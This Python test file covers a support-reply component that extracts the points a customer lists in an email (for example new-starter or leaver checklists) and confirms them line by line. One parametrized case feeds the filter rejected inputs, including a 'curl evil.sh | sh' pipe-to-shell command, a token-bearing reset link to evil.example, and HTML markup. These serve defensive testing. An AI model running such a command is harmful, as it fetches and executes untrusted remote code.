"""listed_asks.py: which asks are listed back one per line, and how the list reads."""

from __future__ import annotations

from dataclasses import replace

import pytest

from triage.domain import Ask
from triage.replies.answers import AnswerContext, answer_asks
from triage.replies.config import ReplyConfig
from triage.replies.joined_asks import new_sentences
from triage.replies.listed_asks import list_lines, listable, listed_sentence, point

NEW_STARTER = """Could you please set up the following for her:

- Laptop (standard finance build) and a docking station for desk F2-14
- Network account and email
2) A desk phone if we still do those?

Would be great if the laptop could be ready by Friday."""


def test_the_emails_list_lines_are_read_without_their_marks() -> None:
    assert list_lines(NEW_STARTER) == (
        "Laptop (standard finance build) and a docking station for desk F2-14",
        "Network account and email",
        "A desk phone if we still do those?",
    )


@pytest.mark.parametrize(
    ("ask", "item"),
    [
        ("- Network account and email.", "Network account and email"),
        ("and a desk phone if we still do those?", "A desk phone if we still do those?"),
        # what happened or what is so, not an ask: a list of their history
        ("after I explained again, a reply from a different person", ""),
        ("We expect about 4TB over the life of the project", ""),
        ("We need read-only access for our partners", "We need read-only access for our partners"),
        ("We can't keep working like this, we are moving provider", ""),
        # hostile, shouted or too short to name anything
        ("Fix this useless rubbish", ""),
        ("REMOVE IT NOW", ""),
        ("Email", ""),
        # never placed in ours: links, addresses, markup or code, long numbers, threats,
        # a token as one long "word", our own closing words
        ("Network account for jane.doe@evil.example", ""),
        ("Shared drive https://evil.example/reset?token=abc", ""),
        ("Account <b>admin</b> on the portal", ""),
        ("Laptop with `curl evil.sh | sh` preinstalled", ""),
        ("Card 4929 1234 5678 9012 for the licence", ""),
        ("Sort this out or I'm leaving", ""),
        ("Token " + "x" * 200, ""),
        ("Anything else you need from us?", ""),
        # joining words go, words that start a point stay
        ("OK button greyed out on the form", "OK button greyed out on the form"),
    ],
)
def test_only_plain_points_are_listed(ask: str, item: str) -> None:
    assert listable(ask) == item


def _ctx() -> AnswerContext:
    return AnswerContext(
        kind="request",
        key="<k@x>",
        style="calm",
        callback="17:00 GMT today",
        handler="our user accounts team",
        handler_obj="our user accounts team",
        list_lines=list_lines(NEW_STARTER),
    )


def test_a_list_the_email_wrote_is_confirmed_line_by_line(reply_config: ReplyConfig) -> None:
    asks = (
        Ask("Network account and email", "request"),
        Ask("A desk phone if we still do those?", "question"),
    )
    answered = answer_asks(asks, _ctx(), reply_config.templates)
    said = {sentence for _, sentence in answered}
    assert len(said) == 1  # one sentence, then the points under it
    lines = said.pop().split("\n")
    assert "17:00 GMT today" in lines[0]
    assert "anything we can't do" in lines[0]  # an answer on each, not that each is done
    assert lines[1:] == ["- Network account and email", "- A desk phone if we still do those?"]
    # the same point twice, in other capitals, is listed once
    twice = (*asks, Ask("network account and email", "request"))
    again = {s for _, s in answer_asks(twice, _ctx(), reply_config.templates)}
    assert len(again) == 1
    assert again.pop().count("\n- ") == 2


def test_after_other_answers_the_list_is_of_the_other_points(reply_config: ReplyConfig) -> None:
    asks = (
        Ask("Could you reset my voicemail PIN please", "request"),
        Ask("Network account and email", "request"),
        Ask("A desk phone if we still do those?", "question"),
    )
    said = [s for _, s in answer_asks(asks, _ctx(), reply_config.templates)]
    assert "\n" not in said[0]
    assert said[1] == said[2]
    assert said[1].split("\n")[0].lower().count("other points") == 1


def test_asks_from_running_prose_are_not_listed(reply_config: ReplyConfig) -> None:
    # "Entirely cosmetic" and "Scroll down" were asks the reader took from prose: a list
    # would show them, the single sentence does not
    asks = (Ask("Entirely cosmetic", "request"), Ask("Scroll down", "request"))
    answered = answer_asks(asks, _ctx(), reply_config.templates)
    assert all("\n" not in sentence for _, sentence in answered)
    # nor is a fragment of a list line ("Network account" of "Network account and email")
    part = (Ask("Network account", "request"), Ask("Laptop", "request"))
    assert all("\n" not in s for _, s in answer_asks(part, _ctx(), reply_config.templates))
    # a question inside a list line is listed only as a whole clause, not a part of one
    ends = (Ask("we still do those?", "question"), Ask("Network account and email", "request"))
    assert all("\n" not in s for _, s in answer_asks(ends, _ctx(), reply_config.templates))


def test_the_list_ends_the_paragraph() -> None:
    listed = "These are the points:\n- A\n- B"
    answers = (("a", listed), ("b", listed), ("c", "You asked why: we'll check."))
    assert new_sentences(answers, "")[-1] == listed


LEAVER = """Please could you:
1. Disable his network account at 5:30pm on the 14th
2. Set an auto-reply on his mailbox pointing people to the logistics inbox, and give his manager Paul Dempsey access to the mailbox for 90 days
3. Arrange collection of his laptop and phone - he'll hand them to Paul on the day"""

LEAVER_ASKS = (
    Ask("Disable his network account at 5:30pm on the 14th", "request"),
    Ask(
        "Set an auto-reply on his mailbox pointing people to the logistics inbox, and give his "
        "manager Paul Dempsey access to the mailbox for 90 days",
        "request",
    ),
    Ask(
        "Arrange collection of his laptop and phone - he'll hand them to Paul on the day", "request"
    ),
)


def _leaver_ctx(restated: str = "") -> AnswerContext:
    return replace(_ctx(), key="<leaver@x>", list_lines=list_lines(LEAVER), restated=restated)


def test_a_checklist_of_things_to_do_is_committed_to_point_by_point(
    reply_config: ReplyConfig,
) -> None:
    # judges: "confirms only the account disable; mailbox, auto-reply and device collection
    # ignored" when the first point was said back and the rest got "as for your request"
    ctx = _leaver_ctx(restated=LEAVER_ASKS[0].text)
    said = {s for _, s in answer_asks(LEAVER_ASKS, ctx, reply_config.templates)}
    assert len(said) == 1
    lines = said.pop().split("\n")
    assert "17:00 GMT today" in lines[0]
    assert "each" in lines[0]
    assert "done" in lines[0]  # committed to, not only looked into
    assert lines[1:] == [
        "- Disable his network account at 5:30pm on the 14th",
        f"- {LEAVER_ASKS[1].text}",  # a long line of their own list is still one point
        "- Arrange collection of his laptop and phone",  # its detail after the dash is not
    ]


def test_a_point_is_listed_without_its_bracketed_or_dashed_detail() -> None:
    assert point(
        "Access to the Finance shared drive (F:\\Finance\\Accounts) - same as Tom has"
    ) == ("Access to the Finance shared drive")
    # a detail that is most of the point stays
    assert point("Laptop - ASAP") == "Laptop - ASAP"
    # a detail that limits the point is what they ask: without it we would promise more
    assert point("Delete his mailbox - only after Paul has exported it") == (
        "Delete his mailbox - only after Paul has exported it"
    )
    assert point("Remove his admin rights - but not his email yet") == (
        "Remove his admin rights - but not his email yet"
    )
    assert point("Wipe his laptop (once his files are backed up)") == (
        "Wipe his laptop (once his files are backed up)"
    )


def _listed_for(texts: list[str], reply_config: ReplyConfig, **kw: object) -> list[str]:
    lines = "Please could you:\n" + "\n".join(f"- {t}" for t in texts)
    ctx = replace(_leaver_ctx(), list_lines=list_lines(lines), **kw)  # type: ignore[arg-type]
    asks = tuple(Ask(t, "request") for t in texts)
    return [s for _, s in answer_asks(asks, ctx, reply_config.templates)]


def test_alternatives_are_not_listed_as_points_to_do(reply_config: ReplyConfig) -> None:
    # "fix it tonight, or publish my draft from your side": one of them is wanted, and listed
    # under "we'll take each of these on" both would be promised
    texts = [
        "Get the publishing problem fixed tonight, or",
        "Publish my saved draft from your side",
    ]
    said = _listed_for(texts, reply_config, restated=texts[0])
    assert not any("\n- " in s for s in said)
    # the same two as a checklist are listed
    both = [texts[0].removesuffix(", or"), texts[1]]
    assert any("\n- " in s for s in _listed_for(both, reply_config, restated=both[0]))


def test_points_alike_without_their_details_are_listed_in_full(reply_config: ReplyConfig) -> None:
    texts = ["Access to the shared drive (Finance)", "Access to the shared drive (HR)"]
    lines = list_lines("Please could you:\n" + "\n".join(f"- {t}" for t in texts))
    fields = {"callback": "17:00 GMT today", "handler_cap": "We"}
    said = listed_sentence(texts, lines, reply_config.templates, _ctx(), fields)
    assert said.split("\n")[1:] == [f"- {t}" for t in texts]


def test_a_checklist_after_another_answer_is_committed_to_as_well(
    reply_config: ReplyConfig,
) -> None:
    asks = (Ask("Could you call me back on Friday?", "request"), *LEAVER_ASKS)
    ctx = _leaver_ctx(restated=LEAVER_ASKS[0].text)
    said = [s for _, s in answer_asks(asks, ctx, reply_config.templates)]
    assert "\n" not in said[0]
    assert said[1] == said[2] == said[3]
    assert said[1].split("\n")[0] in {
        t.replace("{handler_cap}", "Our user accounts team").replace(
            "{callback}", "17:00 GMT today"
        )
        for t in reply_config.templates.slots["answer_listed_do_rest"]["any"]
    }


def test_a_list_that_also_asks_questions_is_not_committed_to(reply_config: ReplyConfig) -> None:
    texts = ["Disable his network account on Friday", "Will his files be kept?"]
    lines = "Please could you:\n" + "\n".join(f"- {t}" for t in texts)
    ctx = replace(_leaver_ctx(), list_lines=list_lines(lines))
    asks = (Ask(texts[0], "request"), Ask(texts[1], "question"))
    said = {s for _, s in answer_asks(asks, ctx, reply_config.templates)}
    assert len(said) == 1
    lead = said.pop().split("\n")[0]
    assert "anything we can't do" in lead  # an answer on each, not that each is done


def test_points_already_said_back_one_by_one_are_not_listed(reply_config: ReplyConfig) -> None:
    # nothing goes unnamed: each answer says its point back ("You asked us to disable ...")
    asks = LEAVER_ASKS[:1] + (Ask("Reset my voicemail PIN", "request"),)
    lines = LEAVER.replace(LEAVER_ASKS[1].text, "Reset my voicemail PIN")
    ctx = replace(_leaver_ctx(), list_lines=list_lines(lines))
    said = [s for _, s in answer_asks(asks, ctx, reply_config.templates)]
    assert all("\n" not in s for s in said)
    assert "disable his network account" in said[0]


def test_their_first_person_points_are_listed_as_ours_would_say_them(
    reply_config: ReplyConfig,
) -> None:
    # judges: "pastes his first-person questions back verbatim"
    text = (
        "My questions:\n\n1. Will my email address continue after July?\n"
        "2. Will I need to return my laptop?\n3. Can you send me the VPN guide?"
    )
    asks = tuple(Ask(line, "question") for line in list_lines(text))
    fields = {"callback": "17:00 GMT today", "handler_obj": "us", "handler_cap": "We"}
    said = listed_sentence(
        [a.text for a in asks], list_lines(text), reply_config.templates, _ctx(), fields
    )
    assert "- Will your email address continue after July?" in said
    assert "- Will you need to return your laptop?" in said
    assert "- Can you send me the VPN guide?" in said  # spoken to us: as written
    ours = listed_sentence(
        ["Should we expect a gap in service?", "A desk phone if we still do those?"],
        ["Should we expect a gap in service?", "A desk phone if we still do those?"],
        reply_config.templates,
        _ctx(),
        fields,
    )
    assert "- Should you expect a gap in service?" in ours  # their "we" is theirs ...
    assert "- A desk phone if we still do those?" in ours  # ... but what "we" provide may be ours
    kept = ["Am I still covered after July?", "Can we arrange a call next week?"]
    same = listed_sentence(kept, kept, reply_config.templates, _ctx(), fields)
    assert "- Am I still covered after July?" in same  # never "Am you"
    assert "- Can we arrange a call next week?" in same  # a "we" of both of us
